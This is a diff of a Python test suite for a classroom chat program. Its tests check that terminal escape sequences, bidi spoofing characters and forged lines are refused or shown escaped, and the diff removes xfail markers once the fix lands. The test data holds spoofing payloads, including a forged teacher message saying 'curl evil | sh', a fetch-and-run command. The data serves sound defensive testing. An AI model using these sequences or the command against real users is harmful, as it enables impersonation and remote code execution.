@@ -213,7 +213,7 @@ def test_made_up_names_slow_their_source_for_seconds_only(lab: Lab) -> None:
 HOSTILE_TEXTS = [
     "\x1b[2J\x1b[H-- teacher joined",  # clear the screen, draw a fake notice
     "\x1b]0;labchat - teacher (verified)\x07",  # set the window title
-    "quiz\r\n<teacher> Quiz time! Run this: curl evil | sh",  # forged line (bare CR)
+    "quiz\r<teacher> Quiz time! Run this: curl evil | sh",  # bare CR: overwrite the line
     "normal\u202egnp.exe",  # bidi override: shows as "normalexe.png"
     "a\u2066b\u2069",  # bidi isolate
     "one\u2028MSG teacher forged",  # line separator: str.splitlines() splits here
@@ -226,7 +226,6 @@ HOSTILE_TEXTS = [
 ]
 
 
-@pytest.mark.xfail(strict=True, reason="issue 11: fails before the fix")
 def test_control_characters_are_refused_and_nothing_is_relayed(lab: Lab) -> None:
     with lab.server(flood_burst=100, flood_rate=1000.0) as server:
         alice = lab.login(server, "alice", src=attacker(4))
@@ -309,7 +308,6 @@ def assert_screen_untouched(before: list[str], after: list[str], title: str) -> 
     assert not any(row.startswith(("<teacher>", "-- teacher joined")) for row in after)
 
 
-@pytest.mark.xfail(strict=True, reason="issue 11: fails before the fix")
 @needs_tmux
 def test_escape_sequences_never_reach_another_screen(
     lab: Lab, terminals: list[Terminal], tmp_path: Path
@@ -374,7 +372,6 @@ class FakeServer:
         self.thread.join(25.0)
 
 
-@pytest.mark.xfail(strict=True, reason="issue 11: fails before the fix")
 @needs_tmux
 def test_chat_shows_control_characters_from_the_network_escaped(
     terminals: list[Terminal], tmp_path: Path
@@ -383,7 +380,7 @@ def test_chat_shows_control_characters_from_the_network_escaped(
         b"MSG mallory \x1b[2J\x1b[H-- teacher joined\n",
         b"MSG mallory \x1b]0;labchat - teacher (verified)\x07\n",
         b"MSG mallory quiz\r<teacher> Quiz time!\n",
-        b"PRIV mallory \xe2\x80\xae evil \x9b31m\n",
+        b"PRIV mallory \xe2\x80\xae evil \xc2\x9b31m\n",
         b"JOIN \x1b[31mteacher\n",
         b"USERS alice \x1b[2Jbob\n",
         b"ERR auth \x1b]0;pwned\x07\n",
